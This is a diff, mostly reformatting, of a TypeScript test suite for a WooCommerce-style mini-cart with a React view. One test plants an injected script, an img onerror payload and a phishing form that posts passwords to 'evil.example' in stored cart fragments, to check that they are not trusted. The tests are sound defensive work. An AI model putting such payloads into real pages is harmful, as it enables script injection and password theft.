@@ -39,7 +39,11 @@ function pageshow(persisted: boolean): Event {
 
 /** A cart on the server (and its cookies), as after shopping on an earlier page. */
 function serverCart(lines: [number, number][]): void {
-  state.cart = lines.map(([productId, quantity], i) => ({ key: `${productId.toString(16).padStart(8, '0')}${String(i + 1).padStart(24, '0')}`, productId, quantity }));
+  state.cart = lines.map(([productId, quantity], i) => ({
+    key: `${productId.toString(16).padStart(8, '0')}${String(i + 1).padStart(24, '0')}`,
+    productId,
+    quantity,
+  }));
   syncCartCookies(state);
 }
 
@@ -67,9 +71,29 @@ describe('mini-cart rules', () => {
     expect(removeSucceeded(undefined)).toBe(false);
   });
   it('gives React the props that print the server attributes back, without inline handlers or styles', () => {
-    expect(propsOf('a', [['class', 'remove remove_from_cart_button'], ['data-cart_item_key', 'k'], ['aria-label', 'Remove'], ['onclick', 'x()'], ['style', 'color:red'], ['hidden', '']])).toEqual({ className: 'remove remove_from_cart_button', 'data-cart_item_key': 'k', 'aria-label': 'Remove', hidden: true });
-    expect(propsOf('input', [['value', '2'], ['checked', ''], ['for', 'x']])).toEqual({ defaultValue: '2', defaultChecked: true, htmlFor: 'x' });
-    expect(propsOf('img', [['srcset', 'a.jpg 1x'], ['tabindex', '-1']])).toEqual({ srcSet: 'a.jpg 1x', tabIndex: '-1' });
+    expect(
+      propsOf('a', [
+        ['class', 'remove remove_from_cart_button'],
+        ['data-cart_item_key', 'k'],
+        ['aria-label', 'Remove'],
+        ['onclick', 'x()'],
+        ['style', 'color:red'],
+        ['hidden', ''],
+      ]),
+    ).toEqual({ className: 'remove remove_from_cart_button', 'data-cart_item_key': 'k', 'aria-label': 'Remove', hidden: true });
+    expect(
+      propsOf('input', [
+        ['value', '2'],
+        ['checked', ''],
+        ['for', 'x'],
+      ]),
+    ).toEqual({ defaultValue: '2', defaultChecked: true, htmlFor: 'x' });
+    expect(
+      propsOf('img', [
+        ['srcset', 'a.jpg 1x'],
+        ['tabindex', '-1'],
+      ]),
+    ).toEqual({ srcSet: 'a.jpg 1x', tabIndex: '-1' });
   });
   it('counts a cart as changed only when a ready cart has another hash than the printed one', () => {
     expect(cartChanged('a', { status: 'ready', cartHash: 'b', fragments: {} })).toBe(true);
@@ -94,7 +118,10 @@ describe('page load', () => {
 
   it('an unchanged cart renders from storage with no request, fires wc_fragments_loaded, and refreshes at expiry', async () => {
     const clock = manualClock();
-    serverCart([[318, 2], [322, 1]]);
+    serverCart([
+      [318, 2],
+      [322, 1],
+    ]);
     storedFromServer(DAY - 60_000);
     const seen = record(['wc_fragments_loaded', 'wc_fragments_refreshed']);
     await shop();
@@ -271,7 +298,10 @@ describe('stored fragments are trusted only as far as the shop answered', () => 
     storedFromServer();
     const planted = {
       ...fragments(state),
-      'div.widget_shopping_cart_content': fragments(state)['div.widget_shopping_cart_content']!.replace('</ul>', '</ul><script id="planted">window.planted = 1</script><img id="planted-img" src="x" onerror="window.planted = 2">'),
+      'div.widget_shopping_cart_content': fragments(state)['div.widget_shopping_cart_content']!.replace(
+        '</ul>',
+        '</ul><script id="planted">window.planted = 1</script><img id="planted-img" src="x" onerror="window.planted = 2">',
+      ),
       '#login-box': '<form id="phish" action="https://evil.example/"><input name="password"></form>',
       html: '<html><body><form id="phish-page"></form></body></html>',
     };
@@ -300,7 +330,8 @@ describe('stored fragments are trusted only as far as the shop answered', () => 
     const stored = {
       ...fragments(state),
       'a.cart-contents': '<a class="cart-contents" href="/cart/"><span class="count">1 item</span></a>',
-      'li.fusion-menu-cart .sf-dropdown': '<div class="sf-dropdown"><a href="/product/318/">Hoodie</a> <a href="/checkout/">Checkout</a></div>',
+      'li.fusion-menu-cart .sf-dropdown':
+        '<div class="sf-dropdown"><a href="/product/318/">Hoodie</a> <a href="/checkout/">Checkout</a></div>',
     };
     sessionStorage.setItem(FRAGMENT_NAME, JSON.stringify(stored));
     const page = await pageBody('shop.html');
@@ -320,12 +351,18 @@ describe('stored fragments are trusted only as far as the shop answered', () => 
     vi.spyOn(console, 'warn').mockImplementation(() => {});
     await shop();
     const box = content();
-    Object.defineProperty(box, 'replaceWith', { value: () => { throw new DOMException('refused', 'HierarchyRequestError'); } });
+    Object.defineProperty(box, 'replaceWith', {
+      value: () => {
+        throw new DOMException('refused', 'HierarchyRequestError');
+      },
+    });
     serverCart([[320, 2]]);
     const uncaught = vi.fn();
     window.addEventListener('error', uncaught);
     onTestFinished(() => window.removeEventListener('error', uncaught));
-    expect(() => document.body.dispatchEvent(new CustomEvent('added_to_cart', { bubbles: true, detail: [fragments(state), cartHash(state)] }))).not.toThrow();
+    expect(() =>
+      document.body.dispatchEvent(new CustomEvent('added_to_cart', { bubbles: true, detail: [fragments(state), cartHash(state)] })),
+    ).not.toThrow();
     // At once when the cart's change code (src/cart/changes.ts) is there, else once it has loaded.
     await vi.waitFor(() => expect(count()).toBe('2'), { timeout: 15_000 });
     expect(uncaught).not.toHaveBeenCalled();
@@ -334,7 +371,10 @@ describe('stored fragments are trusted only as far as the shop answered', () => 
 
 describe('remove from the mini-cart', () => {
   it('removes through the queue, fires removed_from_cart, swaps, announces, and hides the emptied widget', async () => {
-    serverCart([[318, 1], [320, 2]]);
+    serverCart([
+      [318, 1],
+      [320, 2],
+    ]);
     storedFromServer();
     const got: unknown[][] = [];
     onBody('removed_from_cart', (e) => got.push((e as CustomEvent).detail as unknown[]));
@@ -361,7 +401,10 @@ describe('remove from the mini-cart', () => {
   });
 
   it('a remove link outside any mini-cart box (a theme’s header dropdown) removes over ajax too, as WooCommerce’s body-wide handler', async () => {
-    serverCart([[318, 1], [320, 2]]);
+    serverCart([
+      [318, 1],
+      [320, 2],
+    ]);
     storedFromServer();
     const got: unknown[][] = [];
     onBody('removed_from_cart', (e) => got.push((e as CustomEvent).detail as unknown[]));
@@ -398,7 +441,10 @@ describe('remove from the mini-cart', () => {
   });
 
   it('a remove from the keyboard keeps the focus in the cart: on the next line, then on the empty message', async () => {
-    serverCart([[318, 1], [412, 2]]);
+    serverCart([
+      [318, 1],
+      [412, 2],
+    ]);
     storedFromServer();
     await shop();
     const space = () => {
@@ -417,7 +463,10 @@ describe('remove from the mini-cart', () => {
   });
 
   it('a remove clicked while the focus is elsewhere leaves the focus alone', async () => {
-    serverCart([[318, 1], [412, 2]]);
+    serverCart([
+      [318, 1],
+      [412, 2],
+    ]);
     storedFromServer();
     await shop();
     const search = document.createElement('input');
@@ -499,7 +548,15 @@ describe('"hide if empty" after an add', () => {
     // A host whose cookies do not reach the page (another path, a cache stripping Set-Cookie): the answer alone.
     const original = wcAjaxEndpoints.add_to_cart!;
     wcAjaxEndpoints.add_to_cart = (request) =>
-      answer('add_to_cart', request, () => HttpResponse.json({ fragments: { 'div.widget_shopping_cart_content': '<div class="widget_shopping_cart_content"><ul class="woocommerce-mini-cart cart_list product_list_widget"><li class="woocommerce-mini-cart-item mini_cart_item"><span class="quantity">1 × 9</span></li></ul></div>' }, cart_hash: 'h1' }));
+      answer('add_to_cart', request, () =>
+        HttpResponse.json({
+          fragments: {
+            'div.widget_shopping_cart_content':
+              '<div class="widget_shopping_cart_content"><ul class="woocommerce-mini-cart cart_list product_list_widget"><li class="woocommerce-mini-cart-item mini_cart_item"><span class="quantity">1 × 9</span></li></ul></div>',
+          },
+          cart_hash: 'h1',
+        }),
+      );
     onTestFinished(() => void (wcAjaxEndpoints.add_to_cart = original));
     const add = document.querySelector<HTMLAnchorElement>('.ajax_add_to_cart[data-product_id="318"]')!;
     await mountButton(add);
@@ -512,7 +569,10 @@ describe('"hide if empty" after an add', () => {
 
 describe('the React view', () => {
   // Shown to a shopper who moves (being shown alone brings nothing: see below).
-  const shown = () => onTestFinished(setEnvironment({ visible: (_el, fn) => (queueMicrotask(() => (fn(), dispatchEvent(new Event('pointermove')))), () => {}) }));
+  const shown = () =>
+    onTestFinished(
+      setEnvironment({ visible: (_el, fn) => (queueMicrotask(() => (fn(), dispatchEvent(new Event('pointermove')))), () => {}) }),
+    );
   /** The box is in view at once; idle callbacks run only when the test says so. */
   function inViewAtLoad(): Array<() => void> {
     const idles: Array<() => void> = [];
@@ -554,7 +614,11 @@ describe('the React view', () => {
   });
 
   for (const [how, reach] of [
-    ['a pointer over it', (box: Element) => box.querySelector('a.checkout')!.dispatchEvent(new PointerEvent('pointerover', { bubbles: true, pointerType: 'mouse' }))],
+    [
+      'a pointer over it',
+      (box: Element) =>
+        box.querySelector('a.checkout')!.dispatchEvent(new PointerEvent('pointerover', { bubbles: true, pointerType: 'mouse' })),
+    ],
     ['focus in it', (box: Element) => box.querySelector<HTMLElement>('a.checkout')!.focus()],
   ] as const) {
     it(`is loaded at once by ${how}, with no sign of life or idle moment needed`, async () => {
@@ -581,7 +645,10 @@ describe('the React view', () => {
 
   it('mounts when the box is shown and renders the fragment element for element; the list is busy while the cart refreshes', async () => {
     shown();
-    serverCart([[318, 2], [322, 1]]);
+    serverCart([
+      [318, 2],
+      [322, 1],
+    ]);
     storedFromServer();
     await shop();
     await vi.waitFor(() => expect(hasView(content())).toBe(true), { timeout: 15_000 }); // the first import of React is slow under load
@@ -602,7 +669,10 @@ describe('the React view', () => {
   });
 
   it('mounts when the cart changes, and removes: the line blocked while the request runs, one request for a double click', async () => {
-    serverCart([[318, 1], [320, 2]]);
+    serverCart([
+      [318, 1],
+      [320, 2],
+    ]);
     storedFromServer();
     const got: unknown[][] = [];
     onBody('removed_from_cart', (e) => got.push((e as CustomEvent).detail as unknown[]));
@@ -633,7 +703,10 @@ describe('the React view', () => {
     storedFromServer();
     await shop();
     const checkout = content().querySelector<HTMLAnchorElement>('a.checkout')!;
-    const pointer = (type: string) => checkout.dispatchEvent(new PointerEvent(type, { bubbles: true, cancelable: true, pointerId: 1, isPrimary: true, button: 0, pointerType: 'mouse' }));
+    const pointer = (type: string) =>
+      checkout.dispatchEvent(
+        new PointerEvent(type, { bubbles: true, cancelable: true, pointerId: 1, isPrimary: true, button: 0, pointerType: 'mouse' }),
+      );
     // The pointer arriving asks for the view; the button goes down before it is there.
     pointer('pointerover');
     pointer('pointerdown');
